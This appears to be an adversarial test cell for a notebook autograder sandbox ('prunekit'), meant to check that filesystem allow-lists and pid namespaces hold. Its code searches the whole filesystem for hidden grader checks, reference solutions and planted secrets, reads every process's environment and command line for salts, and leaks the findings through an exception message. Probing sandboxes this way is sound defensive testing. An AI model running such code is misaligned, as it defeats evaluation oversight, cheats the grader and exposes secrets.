# about: walks the whole file system looking for the hidden checks, the reference solutions,
#   the calibration and the master notebook by file name, and reads the environment and command
#   line of every visible process looking for the salt or the calibration; leaks what it finds
#   through exception messages (same-named files of installed packages, e.g. torch's
#   choices.py, are not the kit's: only files that mention the kit count as found); the
#   evidence run plants secrets beside the interpreter and in a new top-level folder for it
# base: blank
# defence: the allow-list filesystem, and the pid namespace's own /proc
# lacks: LEAKED
# --- cell
import os

wanted = ("q_fine_grained.py", "q_channel.py", "offline.json", "choices.py", "calibrate.py",
          "pruning_lab.ipynb", "grade.py", "fine_grained.py", "prunekit-planted-secret.txt",
          "autograder.zip", "prunekit-autograder.zip")
hits = []
for top in ("/",):
    for directory, subdirs, files in os.walk(top):
        subdirs[:] = [d for d in subdirs if d not in ("sys", "dev")]
        if directory.startswith("/proc/") and directory.count("/") > 3:
            subdirs[:] = []
        for name in files:
            if name in wanted:
                hits.append(os.path.join(directory, name))
        if len(hits) > 50:
            break
proc_leaks = []  # already read: these count as found
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as handle:
                text = handle.read().decode(errors="replace")
            if "salt" in text or "calibration" in text:
                proc_leaks.append(f"/proc/{pid}/{name}: {text[:200]}")
        except OSError:
            pass
kit_words = ("prunekit", "autograder", "salt", "sparsity_dict", "PLANTED")
contents = list(proc_leaks)
for path in hits:
    try:
        with open(path, errors="replace") as handle:
            text = handle.read()
    except OSError:
        continue
    if any(word in text for word in kit_words):
        contents.append(f"{path}: {text[:400]}")
leak = " | ".join(contents)


def get_sparsity(tensor):
    raise RuntimeError(f"LEAKED {leak[:950]}" if leak else f"found nothing of the kit ({len(hits)} files by name)")
